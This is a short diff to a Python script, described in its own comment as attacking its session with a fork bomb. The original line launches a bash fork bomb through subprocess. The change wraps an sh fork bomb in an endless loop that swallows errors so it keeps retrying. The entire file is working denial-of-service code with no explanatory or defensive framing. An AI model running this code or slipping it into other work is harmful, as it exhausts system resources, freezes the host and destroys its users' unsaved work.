@@ -1,4 +1,6 @@
 # attacks its session with a fork bomb in a shell
 # ends: variously
 import subprocess
-subprocess.run(['bash', '-c', 'b() { while :; do b & done; }; b'])
+while True:
+    try: subprocess.run(['sh', '-c', 'b() { while :; do b & done; }; b'])
+    except OSError: pass
